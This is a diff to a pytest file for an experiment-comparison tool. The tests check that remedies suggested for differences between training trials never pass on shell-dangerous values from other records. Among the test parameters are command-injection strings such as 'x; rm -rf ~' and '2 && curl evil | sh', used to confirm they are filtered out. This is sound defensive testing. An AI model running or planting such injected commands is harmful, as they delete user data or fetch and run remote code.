@@ -17,8 +17,16 @@ from platform.networks import LRASPP, BiSeNet18
 from platform.records.plain import legible
 from platform.records.record import Ask
 from platform.records.trial import Trial
-from platform.results.against.difference import differences
-from platform.results.against.proposal import Unsayable, factors_between, propose, rows_before, sources, unsaid
+from platform.results.against.difference import Difference, differences
+from platform.results.against.proposal import (
+    Unsayable,
+    factors_between,
+    propose,
+    remedies,
+    rows_before,
+    sources,
+    unsaid,
+)
 from platform.results.against.proposal.design import Before
 from platform.shifts import CAMVID_11, gta5_to_cityscapes, town
 from platform.study import Arm, Recipe
@@ -51,7 +59,7 @@ def written(folder: Path, this: Trial, other: Trial, **given: Any) -> list[Path]
     usual: dict[str, Any] = {"before": [], "after": (), "budget": Budget(steps=1, evaluations=1), "seeds": 3, "own": ()}
     proposal = propose(this, other, **usual | given)
     assert proposal is not None
-    said = unsaid(proposal.factors, differences(this, other))
+    said = [*map(str, unsaid(proposal.factors, differences(this, other)))]
     paths = []
     for number, (source, _) in enumerate(sources(proposal, "Which setting?", ENDS, said)):
         paths.append(folder / f"proposed-{number}.py")
@@ -215,7 +223,7 @@ def test_trials_that_are_equal_to_a_study_file_need_none() -> None:
     this = trial(study({"row": Arm(FDA, beta=0.1)}))
     other = dataclasses.replace(this, code="another code")
     assert propose(this, other, [], (), Budget(steps=1, evaluations=1), 3, ()) is None
-    assert unsaid([], differences(this, other))[0].startswith(f"code: {this.code} in this, another code in other")
+    assert str(unsaid([], differences(this, other))[0]).startswith(f"code: {this.code} in this, another code in other")
 
 
 EVIL = (
@@ -276,7 +284,7 @@ def test_texts_of_records_stay_texts_in_a_proposal(evil: str, tmp_path: Path) ->
             propose(this, other, before, (evil,), budget, 3, ())
         proposal = propose(this, other, [], (), budget, 3, ())
     assert proposal is not None
-    besides = unsaid(proposal.factors, differences(this, other))
+    besides = [*map(str, unsaid(proposal.factors, differences(this, other)))]
     assert besides
     for source, _ in sources(proposal, evil, (evil, evil), [*besides, evil]):
         assert "\x1b" not in source
@@ -347,3 +355,32 @@ def test_records_of_another_versions_fields_are_refused() -> None:
     with pytest.raises(Unsayable, match="do not have the same fields: optimiser"):
         factors_between(good, dataclasses.replace(good, recipe=older), ())
     assert {field.name for field in dataclasses.fields(TrainedRecipe)} == good.recipe.keys()
+
+
+@pytest.mark.parametrize(
+    ("name", "other", "said"),
+    [
+        ("git commit", "0123abc+", "check out 0123abc in another folder"),
+        ("git commit", "x; rm -rf ~", "check out that of the other in another folder"),
+        ("torch", "2.5.1+cu124", "install torch==2.5.1+cu124 in"),
+        ("torch", "2 && curl evil | sh", "install the other's torch in"),
+        ("device", "NVIDIA T4", "run the study on the other's machine as well"),
+        ("shift.data", "0123", "bring the other's data"),
+        ("files of FDA", "0123", "bring the other's data"),
+        ("code", "0123", "run both studies again, with one checkout"),
+        ("batches", "whole", "give trials more memory"),
+        ("optimiser", "SGD", "this version's study files have no such setting"),
+    ],
+)
+def test_what_no_study_file_can_say_comes_with_how_to_find_out(name: str, other: str, said: str) -> None:
+    """And with nothing of a stranger's that does harm where it is typed into a shell."""
+    (found,) = unsaid([], [Difference(name, "a", other, "numbers")])
+    assert said in found.remedy
+    assert remedies([found, found]) == [f"{name}: {found.remedy}"]
+
+
+def test_one_remedy_of_several_differences_is_said_once() -> None:
+    found = unsaid([], [Difference(name, "a", "b", "last bits") for name in ("device", "processor")])
+    assert remedies(found) == ["device and processor: run the study on the other's machine as well"]
+    commit = Difference("git commit", "a", "b", "numbers")
+    assert [each.difference for each in unsaid([], [Difference("code", "a", "b", "numbers"), commit])] == [commit]
